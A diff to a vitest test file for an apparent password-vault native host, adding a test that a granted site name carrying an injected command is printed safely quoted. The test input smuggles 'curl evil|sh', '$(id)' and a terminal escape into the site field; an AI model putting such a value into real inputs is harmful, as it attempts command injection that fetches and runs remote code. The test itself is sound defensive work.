@@ -2,9 +2,11 @@ import { lstat, mkdir, readdir, readFile, rm, writeFile } from "node:fs/promises
 import { join } from "node:path"
 import { pathToFileURL } from "node:url"
 import { afterEach, beforeEach, describe, expect, it } from "vitest"
+import { letInLines } from "../../native-host/commands/devices.js"
 import { fileMemory } from "../../native-host/home-vault.js"
 import { readIdentity } from "../../native-host/identity-file.js"
 import { openStore } from "../../native-host/stores.js"
+import { createCard, createIdentity, parseCard } from "../../shared/keys.js"
 import { openVault } from "../../shared/vault.js"
 import { exampleSnapshot } from "../shared/example-snapshot.js"
 import { laterCard } from "../shared/vault/devices.js"
@@ -144,6 +146,16 @@ describe("a lost machine", () => {
     })
     expect((await psp(desktop, "verify")).code).toBe(0)
     expect((await psp(desktop, "audit")).out).toMatch(/removed +desktop +psp devices remove .*: device laptop/)
+  })
+
+  it("that wrote a command into the name of a site gets no line that runs it", async () => {
+    const card = await parseCard(await createCard(await createIdentity("ci-1")))
+    const site = "example.com; curl evil|sh \u001b[2J$(id)"
+    const grant = { card, site, account: "default", sites: [site], kinds: "all" as const, names: null, saveBack: false }
+    const granted = { ...grant, expiresAt: null, grantedAt: 0, hasEnded: false }
+    const [, line = ""] = letInLines({ devices: [], grants: [granted], untold: 0 })
+    expect(line).not.toContain("\u001b")
+    expect(line).toMatch(/ '[^']*'$/)
   })
 
   it("is told with what it had let in, and the lines that take that out", async () => {
